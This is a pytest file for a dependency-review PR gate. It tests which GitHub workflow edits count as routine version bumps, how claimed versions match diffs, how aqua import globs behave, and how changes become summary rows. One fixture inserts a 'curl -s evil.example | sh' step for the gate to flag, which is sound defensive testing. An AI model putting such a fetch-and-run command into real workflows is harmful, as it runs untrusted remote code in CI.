"""Pure helpers of the PR gate: what a workflow edit may change, how a body's claimed version
is compared with the diff, which files an aqua import reaches, and how changes become rows."""

from __future__ import annotations

import pytest

from depguard.model import Checked, Finding, RuleId, Severity, Skip
from depguard.prcheck.changes import DependencyChange
from depguard.prcheck.engine import _glob_match, _leaves, _same_version, workflow_edit
from depguard.prcheck.summary import change_rows, evidence_words

WORKFLOW = b"""\
on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1
      - uses: aquaproj/aqua-installer@6ce1f8848ec8e61f14d57bd5d7597057a6dd187c # v3.0.1
        with:
          aqua_version: v2.36.1
      - uses: actions/setup-python@v5
        with:
          python-version: '3.12'
      - run: make test
"""


def _edit(old: str, new: str) -> bytes:
    assert old.encode() in WORKFLOW
    return WORKFLOW.replace(old.encode(), new.encode())


@pytest.mark.parametrize(
    "head",
    [
        _edit("b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1", "11bd71901bbe5b16" + "0" * 24),
        _edit("# v4.1.1", "# v4.2.2"),
        _edit("aqua_version: v2.36.1", "aqua_version: v2.43.0"),
        _edit("python-version: '3.12'", "python-version: '3.13.1'"),
        _edit("actions/setup-python@v5", "actions/setup-python@v5.3.0"),
        # which action a step uses is a dependency change, judged by the dependency rules
        _edit("actions/checkout@", "actlons/checkout@"),
        WORKFLOW,
    ],
    ids=["sha", "comment", "aqua-version", "python", "tag", "renamed-action", "same"],
)
def test_what_renovate_changes_in_a_workflow_is_no_edit(head: bytes) -> None:
    assert workflow_edit(WORKFLOW, head) is None


@pytest.mark.parametrize(
    ("head", "line"),
    [
        (_edit("run: make test", "run: curl -s evil.example | sh"), 13),
        (_edit("      - run: make test\n", "      - run: make test\n      - run: ./x.sh\n"), 14),
        (_edit("      - run: make test\n", ""), 12),
        (_edit("runs-on: ubuntu-latest", "runs-on: self-hosted"), 4),
        (_edit("on: pull_request", "on: pull_request_target"), 1),
    ],
    ids=["run-changed", "step-added", "step-removed", "runner", "trigger"],
)
def test_other_workflow_edits_are_reported_at_their_line(head: bytes, line: int) -> None:
    edit = workflow_edit(WORKFLOW, head)
    assert edit is not None and edit[0] == line, edit


def test_new_and_deleted_workflows() -> None:
    assert workflow_edit(None, WORKFLOW) == (1, "a new workflow file")
    assert workflow_edit(WORKFLOW, None) == (None, "a workflow file was deleted")
    assert workflow_edit(None, None) is None


@pytest.mark.parametrize(
    ("claimed", "actual", "same"),
    [
        ("v4.14.1", "v4.14.1", True),
        ("4.14.1", "v4.14.1", True),
        ("v4.14.1", "v5.0.0", False),
        ("5.0.0", "5.1.0", False),
        ("v5", "v5.1.0", True),  # a floating major tag
        ("5.32", "5.32.0", True),
        ("5.32.0", "5.32", True),
        ("abc1234", "abc1234" + "0" * 33, True),  # a short digest
        ("abc1234", "def5678" + "0" * 33, False),
        ("~> 6.0", "6.2.0", True),  # a range is not compared
        ("latest", "1.0.0", True),  # nothing comparable
    ],
)
def test_claimed_versions(claimed: str, actual: str, same: bool) -> None:
    assert _same_version(claimed, actual) is same


def test_import_globs() -> None:
    assert _glob_match("docs/tools.yaml", "docs/*.yaml")
    assert not _glob_match("docs/sub/tools.yaml", "docs/*.yaml")  # * does not cross /
    assert _glob_match("aqua/imports/a.yml", "aqua/imports/*.y*ml")
    assert not _leaves("envs/dev/aqua.yaml", "imports/*.yaml")
    assert _leaves("envs/dev/aqua.yaml", "../../docs/*.yaml")
    assert _leaves("envs/dev/aqua.yaml", "/etc/*.yaml")
    assert _leaves("aqua.yaml", "../../x.yaml")  # leaves the repository


def test_evidence_words() -> None:
    assert (
        evidence_words(("openpgp:34365D9472D7468F:official", "zh"))
        == "zh checked against SHA256SUMS signed by HashiCorp 34365D9472D7468F"
    )
    assert evidence_words(("checksum-file", "cosign")) == (
        "checked against the release's checksum file and a cosign signature"
    )
    assert evidence_words(()) == ""


def _change(**kw: object) -> DependencyChange:
    base: dict[str, object] = {
        "kind": "provider",
        "name": "registry.terraform.io/hashicorp/aws",
        "file": "envs/dev/.terraform.lock.hcl",
        "line": 4,
        "old_version": "5.31.0",
        "new_version": "5.32.0",
    }
    return DependencyChange(**(base | kw))  # type: ignore[arg-type]


def test_rows_fold_hashes_and_checksums_and_match_evidence() -> None:
    changes = [
        _change(),
        _change(kind="provider-hashes", added=("h1:a", "zh:b"), removed=("zh:c",)),
        _change(
            kind="aqua-package",
            name="suzuki-shunsuke/tfcmt",
            file="aqua/aqua.yaml",
            line=9,
            old_version="v4.14.0",
            new_version="v4.14.1",
            old_source="standard",
            new_source="standard",
        ),
        _change(
            kind="aqua-checksum",
            name="x",
            file="aqua/aqua-checksums.json",
            line=None,
            added=("SHA256:AA",),
        ),
        _change(
            kind="aqua-checksum",
            name="y",
            file="aqua/aqua-checksums.json",
            line=None,
            removed=("SHA256:BB",),
        ),
    ]
    checked = [
        Checked(
            subject="registry.terraform.io/hashicorp/aws 5.32.0",
            evidence=("openpgp:34365D9472D7468F:official", "zh"),
            path="envs/dev/.terraform.lock.hcl",
        ),
        Checked(
            subject="suzuki-shunsuke/tfcmt v4.14.1 linux/amd64",
            evidence=("checksum-file",),
            path="aqua/aqua-checksums.json",
        ),
    ]
    rows = {
        r.kind: r
        for r in change_rows(
            changes, findings=[], skipped=[], checked=checked, dates={}, verified=True
        )
    }
    assert set(rows) == {"provider", "aqua-package", "aqua-checksums"}
    assert rows["provider"].status == "verified" and rows["provider"].hashes == "+2 −1 hashes"
    assert rows["aqua-package"].evidence == (
        "checked against the release's checksum file",
        "platforms linux/amd64",
    )
    assert rows["aqua-checksums"].hashes == "+1 −1 checksums"
    assert rows["aqua-checksums"].status == "verified"


def test_rows_fail_skip_and_not_verified() -> None:
    finding = Finding(
        rule=RuleId("lock-hash-mismatch"),
        severity=Severity.CRITICAL,
        message="m",
        path="envs/dev/.terraform.lock.hcl",
        line=4,
        subject="registry.terraform.io/hashicorp/aws 5.32.0",
    )
    (failed,) = change_rows(
        [_change()], findings=[finding], skipped=[], checked=[], dates={}, verified=True
    )
    assert failed.status == "failed"
    skip = Skip(
        subject="registry.terraform.io/hashicorp/aws 5.32.0",
        reason="registry unreachable",
        path="envs/dev/.terraform.lock.hcl",
    )
    (skipped,) = change_rows(
        [_change()], findings=[], skipped=[skip], checked=[], dates={}, verified=True
    )
    assert (skipped.status, skipped.evidence) == ("skipped", ("registry unreachable",))
    (unverified,) = change_rows(
        [_change()], findings=[], skipped=[], checked=[], dates={}, verified=False
    )
    assert unverified.status == "not verified"
